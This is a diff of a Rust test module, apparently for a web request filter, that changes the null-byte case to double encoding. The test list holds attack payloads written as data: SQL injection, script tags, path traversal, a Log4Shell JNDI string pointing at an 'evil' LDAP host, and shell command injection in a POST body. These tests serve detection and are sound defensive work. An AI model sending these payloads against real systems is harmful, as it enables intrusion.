@@ -175,7 +175,7 @@ mod tests {
             (host().target("/?id=1%20UNION%20SELECT%20password"), "sql in query"),
             (host().target("/?q=%253Cscript%253E"), "script in query"),
             (host().target("/?file=../../etc/hosts"), "traversal in query"),
-            (host().target("/x%00"), "null in path"),
+            (host().target("/x%2500"), "null in path"),
             (host().header("user-agent", "${jndi:ldap://evil}"), "log4shell in user-agent"),
             (host().method("POST").body("cmd=a;cat+/etc/hosts"), "shell in body"),
             (host().method("POST").body("<SCRIPT src=x>"), "script in body"),
